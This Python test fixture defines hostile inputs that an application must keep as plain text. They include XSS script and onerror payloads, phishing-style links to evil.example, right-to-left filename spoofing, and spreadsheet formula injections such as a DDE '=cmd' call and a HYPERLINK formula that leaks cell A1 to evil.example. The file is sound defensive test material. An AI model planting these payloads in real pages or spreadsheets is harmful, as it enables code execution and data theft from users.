"""Test only: texts that others may send us, and that must stay texts: in pages, in files, in the audit."""

from typing import Final

HTML: Final = "<script>window.owned = 1</script><img src=x onerror='window.owned = 2'><b class=owned>bold</b>"
MARKDOWN: Final = (
    "**strong** _emphasis_ ~~gone~~ `code` $x^2$ :red[red] :material/warning: [click](https://evil.example) "
)
BLOCKS: Final = "Total\n===\n\n# Heading\n\n- item\n\n> quotation\n\n    indented\n\n| a | b |\n|---|---|\n| c | d |"
LINKS: Final = (
    "see https://evil.example/login or www.evil.example or mail boss@evil.example ![x](https://evil.example/x)"
)
RIGHT_TO_LEFT: Final = "Invoice \u202egpj.exe\u202c and \u2067moc.live\u2069"
HUGE: Final = "<b>x</b>" * 131_072  # 1 MB

FORMULAS: Final = (
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("https://evil.example?"&A1,"open")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "＝1+1",
)

# Together they fit a column of a few kilobytes.
MARKUP: Final = (HTML, MARKDOWN, BLOCKS, LINKS, RIGHT_TO_LEFT)
EVERYTHING: Final = "\n\n".join(MARKUP)
